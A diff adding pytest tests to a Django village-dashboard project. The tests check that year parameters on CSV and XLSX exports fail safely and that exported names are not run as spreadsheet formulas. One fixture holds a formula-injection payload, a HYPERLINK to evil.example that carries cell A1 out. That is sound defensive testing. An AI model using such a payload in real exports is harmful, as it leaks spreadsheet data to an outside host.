@@ -334,3 +334,46 @@ def test_the_dashboard_names_the_sources_of_the_years_idm(
     score = IDMScore.objects.get(desa=desa_b, year=YEAR)
     score.save()  # renews the cached dashboard
     assert client.get(url).json()["kecamatan"]["idm_sources"] == ["Data contoh"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+@pytest.mark.parametrize("year", ["²", "¹⁰", "٢٠٢٦"])
+def test_export_years_are_ascii_digits_never_a_server_error(
+    desa_a, editor_a, fmt, year
+):
+    # "²".isdigit() is true but int("²") fails; "٢٠٢٦" is not 2026 either.
+    response = logged_in(editor_a).get(
+        f"/admin/dashboard/export/{fmt}/", {"year": year}
+    )
+    assert response.status_code == 200
+    this_year = timezone.localdate().year
+    assert f'filename="dashboard-{this_year}.{fmt}"' in response["Content-Disposition"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+
+
+@pytest.fixture
+def formula_desa(desa_a):
+    # A desa name a spreadsheet would run as a formula.
+    desa_a.name = FORMULA
+    desa_a.save_revision().publish()
+    return desa_a
+
+
+def test_xlsx_export_writes_text_that_looks_like_a_formula_as_text(
+    formula_desa, moderator
+):
+    response = logged_in(moderator).get("/admin/dashboard/export/xlsx/")
+    sheet = load_workbook(BytesIO(response.content)).active
+    names = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert FORMULA in [cell.value for cell in names]
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_csv_export_quotes_text_that_looks_like_a_formula(formula_desa, moderator):
+    response = logged_in(moderator).get("/admin/dashboard/export/csv/")
+    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
+    assert "'" + FORMULA in [row[1] for row in rows]
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
